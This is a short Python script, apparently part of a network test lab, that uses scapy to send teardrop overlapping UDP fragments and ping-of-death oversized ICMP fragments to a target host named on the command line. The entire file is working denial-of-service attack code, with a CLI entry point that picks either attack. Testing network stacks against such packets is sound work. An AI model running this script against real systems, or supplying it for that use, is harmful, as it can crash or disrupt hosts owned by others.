"""Sends teardrop or ping-of-death fragments (no maintained tool sends these any more).

Usage: python send_fragments.py teardrop|pod TARGET  (run inside the attacker namespace)
"""

from __future__ import annotations

import sys
import time

from scapy.all import ICMP, IP, UDP, Raw, send


def teardrop(target: str, rounds: int = 10) -> None:
    """teardrop.c's pair: 36 bytes at offset 0 (MF), then 4 bytes at offset 24."""
    for i in range(rounds):
        udp = UDP(sport=33, dport=200 + i, len=36, chksum=0)
        send(IP(dst=target, id=242 + i, flags="MF", frag=0, proto=17) / udp / Raw(b"a" * 28),
             verbose=False)
        send(IP(dst=target, id=242 + i, flags=0, frag=3, proto=17) / Raw(b"b" * 4), verbose=False)
        time.sleep(0.2)


def ping_of_death(target: str, rounds: int = 3) -> None:
    """An echo request whose fragments reassemble past 65,535 bytes."""
    for r in range(rounds):
        ident = 4000 + r
        head = IP(dst=target, id=ident, flags="MF", frag=0, proto=1) / ICMP(
            type=8, id=ident, seq=1) / Raw(b"X" * 1472)
        send(head, verbose=False)
        for i in range(1, 45):
            send(IP(dst=target, id=ident, flags="MF" if i < 44 else 0, frag=i * 185, proto=1)
                 / Raw(b"X" * 1480), verbose=False)
        time.sleep(0.5)


if __name__ == "__main__":
    {"teardrop": teardrop, "pod": ping_of_death}[sys.argv[1]](sys.argv[2])
